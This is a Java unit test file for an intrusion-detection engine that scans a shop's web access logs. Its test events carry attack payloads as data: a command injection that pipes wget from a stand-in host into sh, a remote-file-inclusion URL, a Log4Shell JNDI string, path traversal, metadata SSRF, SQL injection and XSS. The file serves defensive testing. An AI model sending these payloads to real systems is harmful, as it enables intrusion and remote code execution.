package dev.mimamori.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mimamori.model.Alert;
import dev.mimamori.model.Event;
import dev.mimamori.model.EvidenceRef;
import dev.mimamori.model.Observable;
import dev.mimamori.model.Severity;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class DetectorTest {
  private static final Instant T0 = Instant.parse("2026-11-19T18:00:00Z");
  private static final String BROWSER =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
          + " Chrome/120.0.0.0 Safari/537.36";
  private static final List<CompiledRule> BUILTIN_CHECK = new RuleLoader().loadBuiltin();

  /** A fresh detector over the built-in rules; rules keep state, so each test gets its own. */
  private static Detector builtin() {
    return new Detector(new RuleLoader().loadBuiltin());
  }

  private static Event.Builder request(String method, String target) {
    int q = target.indexOf('?');
    return Event.builder()
        .timestamp(T0)
        .tenant("acme")
        .asset("furusato-shop")
        .dataset("http.access")
        .original(method + " " + target)
        .sourceIp("203.0.113.7")
        .method(method)
        .urlOriginal(target)
        .urlPath(q < 0 ? target : target.substring(0, q))
        .urlQuery(q < 0 ? null : target.substring(q + 1))
        .statusCode(200)
        .responseBytes(1200L)
        .userAgent(BROWSER)
        .logFilePath("/var/log/nginx/access.log");
  }

  private static List<String> firedRuleIds(Detector d, Event e) {
    return d.process(e).stream().map(Alert::ruleId).toList();
  }

  static Stream<Arguments> representativeEvents() {
    return Stream.of(
        Arguments.of(
            "mm-web-xss-payload",
            request("GET", "/products/list?name=%253Cscript%253Ealert(1)%253C%252Fscript%253E")
                .build()),
        Arguments.of(
            "mm-eccube-admin-order-mail", request("POST", "/admin/order/1042/mail").build()),
        Arguments.of(
            "mm-eccube-file-manager-upload",
            request("POST", "/admin/content/file_manager?tree_select_file=%2Fuser_data").build()),
        Arguments.of(
            "mm-eccube-storefront-code-edit", request("POST", "/admin/content/js").build()),
        Arguments.of(
            "mm-eccube-admin-member-created",
            request("POST", "/admin/setting/system/member/new").build()),
        Arguments.of(
            "mm-web-php-in-user-data", request("POST", "/html/user_data/ba5e1f.php").build()),
        Arguments.of(
            "mm-web-large-php-response",
            request("GET", "/upload/save_image/dump.php").responseBytes(4_812_339L).build()),
        Arguments.of(
            "mm-web-scanner-user-agent",
            request("GET", "/").userAgent("sqlmap/1.7.2#stable (https://sqlmap.org)").build()),
        Arguments.of("mm-web-sensitive-file-probe", request("GET", "/.env").build()),
        Arguments.of(
            "mm-csp-foreign-script-checkout",
            request("GET", "/shopping/confirm")
                .extra("csp.blocked.foreign", "true")
                .extra("csp.directive", "script-src-elem")
                .build()),
        Arguments.of(
            "mm-csp-foreign-host-sensitive-page",
            request("GET", "/mypage/login")
                .extra("csp.blocked.foreign", "true")
                .extra("csp.directive", "connect-src")
                .build()),
        Arguments.of(
            "mm-storefront-card-data-sent",
            request("GET", "/shopping")
                .extra("storefront.kind", "sensitive_data_sent")
                .extra("storefront.severity", "critical")
                .build()),
        Arguments.of(
            "mm-storefront-new-script",
            request("GET", "/shopping")
                .extra("storefront.kind", "new_script")
                .extra("storefront.severity", "high")
                .build()),
        Arguments.of(
            "mm-storefront-changed-script",
            request("GET", "/shopping")
                .extra("storefront.kind", "changed_script")
                .extra("storefront.severity", "high")
                .build()),
        Arguments.of(
            "mm-storefront-new-host",
            request("GET", "/shopping")
                .extra("storefront.kind", "new_host")
                .extra("storefront.severity", "medium")
                .build()),
        Arguments.of(
            "mm-storefront-inventory-truncated",
            request("GET", "/shopping")
                .extra("storefront.kind", "inventory_truncated")
                .extra("storefront.severity", "medium")
                .build()),
        Arguments.of(
            "mm-storefront-check-failed",
            request("GET", "/shopping")
                .extra("storefront.kind", "check_failed")
                .extra("storefront.severity", "low")
                .build()),
        Arguments.of(
            "mm-web-sql-injection",
            request("GET", "/products/list?category_id=1+UNION+ALL+SELECT+NULL%2CNULL--").build()),
        Arguments.of(
            "mm-web-path-traversal",
            request("GET", "/products/detail/1?id=..%2F..%2F..%2Fetc%2Fpasswd").build()),
        Arguments.of(
            "mm-web-remote-file-inclusion",
            request("GET", "/index.php?page=http://evil.example/shell.txt%3F").build()),
        Arguments.of(
            "mm-web-command-injection",
            request("GET", "/contact?name=a%3Bwget%20-q%20-O-%20evil.example%7Csh").build()),
        Arguments.of(
            "mm-web-php-code-injection",
            request("GET", "/?q=eval(base64_decode(%22ZWNobyAxOw%22))").build()),
        Arguments.of(
            "mm-web-ssrf-metadata",
            request("GET", "/image?src=http://169.254.169.254/latest/meta-data/").build()),
        Arguments.of(
            "mm-web-log4shell",
            request("GET", "/").userAgent("${jndi:ldap://evil.example:1389/a}").build()));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("representativeEvents")
  void builtinRuleFiresAloneOnItsRepresentativeEvent(String ruleId, Event event) {
    assertThat(firedRuleIds(builtin(), event)).containsExactly(ruleId);
  }

  @Test
  void everyBuiltinRuleHasARepresentativeTest() {
    List<Object> covered = new ArrayList<>(representativeEvents().map(a -> a.get()[0]).toList());
    covered.add("mm-web-login-bruteforce");
    covered.add("mm-ssh-bruteforce"); // SshBruteForceRuleTest
    covered.add("mm-web-404-storm");
    covered.add("mm-web-403-storm");
    // Covered by the cases in their rule files (RuleTestsTest runs them all).
    covered.add("mm-eccube-stored-xss-field");
    covered.add("mm-web-shell-known-name");
    covered.add("mm-web-php-post-in-asset-folder");
    covered.addAll(
        List.of(
            "mm-uptime-site-down",
            "mm-uptime-flapping",
            "mm-uptime-tls-expiring",
            "mm-uptime-tls-expiring-urgent",
            "mm-uptime-tls-invalid",
            "mm-uptime-dns-ns-mx-changed",
            "mm-uptime-dns-address-changed",
            "mm-uptime-content-changed"));
    covered.addAll(BehaviourRulesTest.BEHAVIOUR_RULES); // BehaviourRulesTest

    assertThat(BUILTIN_CHECK)
        .extracting(r -> (Object) r.meta().id())
        .containsExactlyInAnyOrderElementsOf(covered);
  }

  @Test
  void bruteForceRuleFiresOnTheTenthLoginPostWithinAMinute() {
    Detector d = builtin();
    List<String> fired = new ArrayList<>();
    for (int k = 0; k < 10; k++) {
      fired.addAll(
          firedRuleIds(
              d,
              request("POST", "/mypage/login")
                  .timestamp(T0.plusSeconds(2L * k))
                  .userAgent("python-requests/2.31.0")
                  .statusCode(302)
                  .build()));
      if (k < 9) {
        assertThat(fired).as("after %d posts", k + 1).isEmpty();
      }
    }

    assertThat(fired).containsExactly("mm-web-login-bruteforce");
  }

  @Test
  void scanningRuleFiresOnTheThirtiethNotFoundWithinAMinuteWithEveryLine() {
    Detector d = builtin();
    List<Alert> alerts = new ArrayList<>();
    for (int k = 0; k < 30; k++) {
      alerts.addAll(
          d.process(
              request("GET", "/old-" + k + "/index.html")
                  .timestamp(T0.plusSeconds(k))
                  .statusCode(404)
                  .lineNumber(k + 1)
                  .build()));
    }

    assertThat(alerts)
        .singleElement()
        .satisfies(a -> assertThat(a.ruleId()).isEqualTo("mm-web-404-storm"))
        .satisfies(a -> assertThat(a.evidence()).hasSize(30));
  }

  @Test
  void scanningRuleStaysQuietOnNotFoundsSpreadOverAnHour() {
    Detector d = builtin();
    List<Alert> alerts = new ArrayList<>();
    for (int k = 0; k < 60; k++) {
      alerts.addAll(
          d.process(
              request("GET", "/missing.png")
                  .timestamp(T0.plusSeconds(60L * k))
                  .statusCode(404)
                  .build()));
    }

    assertThat(alerts).isEmpty();
  }

  static Stream<Event> benignStorefrontRequests() {
    return Stream.of(
        request("GET", "/").build(),
        request("GET", "/products/list?category_id=3&orderby=2&disp_number=20").build(),
        request("GET", "/products/list?name=%E3%81%8A%E7%B1%B3+5kg").build(),
        request("GET", "/products/detail/12").build(),
        request("POST", "/products/add_cart/12").build(),
        request("GET", "/cart").build(),
        request("POST", "/shopping/confirm").build(),
        request("GET", "/shopping/login").build(),
        request("POST", "/mypage/login").statusCode(302).build(),
        request("GET", "/html/user_data/assets/js/customize.js").build(),
        request("GET", "/html/template/default/assets/css/style.css").build(),
        request("GET", "/index.php/products/list").build(),
        request("GET", "/index.php").responseBytes(2_000_000L).build(),
        request("GET", "/admin/order/1042/mail").build(),
        request("GET", "/products/list?name=script+writing+set").build());
  }

  @ParameterizedTest
  @MethodSource("benignStorefrontRequests")
  void noRuleFiresOnABenignStorefrontRequest(Event event) {
    assertThat(firedRuleIds(builtin(), event)).isEmpty();
  }

  @Test
  void suppressesRepeatsFromTheSameAddressWithinTheWindow() {
    Detector d = builtin();
    Event first = request("GET", "/.env").build();
    Event again = request("GET", "/.git/config").timestamp(T0.plus(Duration.ofMinutes(29))).build();

    assertThat(firedRuleIds(d, first)).containsExactly("mm-web-sensitive-file-probe");
    assertThat(firedRuleIds(d, again)).isEmpty();
  }

  @Test
  void doesNotSuppressAnotherAddress() {
    Detector d = builtin();
    d.process(request("GET", "/.env").build());

    List<String> other =
        firedRuleIds(
            d,
            request("GET", "/.git/config")
                .sourceIp("198.51.100.99")
                .timestamp(T0.plusSeconds(1))
                .build());

    assertThat(other).containsExactly("mm-web-sensitive-file-probe");
  }

  @Test
  void doesNotSuppressTheSameAddressOnAnotherShop() {
    Detector d = builtin();
    d.process(request("GET", "/.env").build());

    List<String> other =
        firedRuleIds(
            d, request("GET", "/.env").asset("other-shop").timestamp(T0.plusSeconds(1)).build());

    assertThat(other).containsExactly("mm-web-sensitive-file-probe");
  }

  @Test
  void firesAgainOnceTheSuppressionWindowHasPassed() {
    Detector d = builtin();
    d.process(request("GET", "/.env").build());

    List<String> later =
        firedRuleIds(d, request("GET", "/.env").timestamp(T0.plus(Duration.ofMinutes(30))).build());

    assertThat(later).containsExactly("mm-web-sensitive-file-probe");
  }

  @Test
  void suppressionDoesNotSilenceOtherRules() {
    Detector d = builtin();
    d.process(request("GET", "/.env").build());

    List<String> xss =
        firedRuleIds(d, request("GET", "/?q=<script>").timestamp(T0.plusSeconds(1)).build());

    assertThat(xss).containsExactly("mm-web-xss-payload");
  }

  @Test
  void ruleWithoutSuppressKeepsEveryAlert() {
    Detector d = builtin();
    Event created = request("POST", "/admin/setting/system/member/new").build();

    assertThat(firedRuleIds(d, created)).hasSize(1);
    assertThat(firedRuleIds(d, created)).hasSize(1);
  }

  @Test
  void givesTheSameAlertIdWhenTheSameLineFiresAgain() {
    Event e = request("POST", "/html/user_data/ba5e1f.php").logOffset(9000).build();

    String first = new Detector(new RuleLoader().loadBuiltin()).process(e).get(0).id();
    String again = new Detector(new RuleLoader().loadBuiltin()).process(e).get(0).id();

    assertThat(again).isEqualTo(first);
  }

  @Test
  void givesAnotherAlertIdToTheSameRuleOnAnotherLine() {
    Event e = request("POST", "/html/user_data/ba5e1f.php").logOffset(9000).build();
    Event next = request("POST", "/html/user_data/ba5e1f.php").logOffset(9200).build();

    String first = new Detector(new RuleLoader().loadBuiltin()).process(e).get(0).id();
    String other = new Detector(new RuleLoader().loadBuiltin()).process(next).get(0).id();

    assertThat(other).isNotEqualTo(first);
  }

  @Test
  void buildsTheAlertFromRuleAndTriggeringEvent() {
    AtomicInteger n = new AtomicInteger();
    Detector d = new Detector(new RuleLoader().loadBuiltin(), () -> "alert-" + n.incrementAndGet());
    Event e = request("POST", "/html/user_data/ba5e1f.php").lineNumber(77).logOffset(9000).build();

    List<Alert> alerts = d.process(e);

    assertThat(alerts).hasSize(1);
    Alert a = alerts.get(0);
    assertThat(a.id()).isEqualTo("alert-1");
    assertThat(a.ruleId()).isEqualTo("mm-web-php-in-user-data");
    assertThat(a.ruleClass()).isEqualTo("web.webshell");
    assertThat(a.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(a.tenant()).isEqualTo("acme");
    assertThat(a.asset()).isEqualTo("furusato-shop");
    assertThat(a.timestamp()).isEqualTo(T0);
    assertThat(a.sourceIp()).isEqualTo("203.0.113.7");
    assertThat(a.incidentId()).isNull();
    assertThat(a.evidence()).containsExactly(EvidenceRef.of(e));
    assertThat(a.observables())
        .containsExactlyInAnyOrder(
            Observable.ip("203.0.113.7"),
            Observable.url("/html/user_data/ba5e1f.php"),
            new Observable(Observable.Type.FILE_PATH, "/html/user_data/ba5e1f.php"),
            new Observable(Observable.Type.USER_AGENT, BROWSER));
  }

  @Test
  void doesNotCallAPathWithoutCodeExtensionAFile() {
    Alert a = builtin().process(request("GET", "/.env").build()).get(0);

    assertThat(a.observables())
        .extracting(Observable::type)
        .doesNotContain(Observable.Type.FILE_PATH);
  }

  @Test
  void thresholdAlertCarriesEveryEventAsEvidenceWithTheTriggerLast() {
    Detector d = builtin();
    List<Alert> alerts = List.of();
    Event last = null;
    for (int k = 0; k < 10; k++) {
      last =
          request("POST", "/admin/login_check")
              .timestamp(T0.plusSeconds(k))
              .lineNumber(k + 1)
              .build();
      alerts = d.process(last);
    }

    assertThat(alerts)
        .singleElement()
        .extracting(Alert::ruleId)
        .isEqualTo("mm-web-login-bruteforce");
    assertThat(alerts.get(0).evidence()).hasSize(10).last().isEqualTo(EvidenceRef.of(last));
  }

  @Test
  void emptyDetectorNeverAlerts() {
    Detector d = new Detector(List.of());

    assertThat(d.ruleCount()).isZero();
    assertThat(d.process(request("GET", "/.env").build())).isEmpty();
  }

  @Test
  void reportsItsRuleCount() {
    assertThat(builtin().ruleCount()).isEqualTo(BUILTIN_CHECK.size());
  }
}
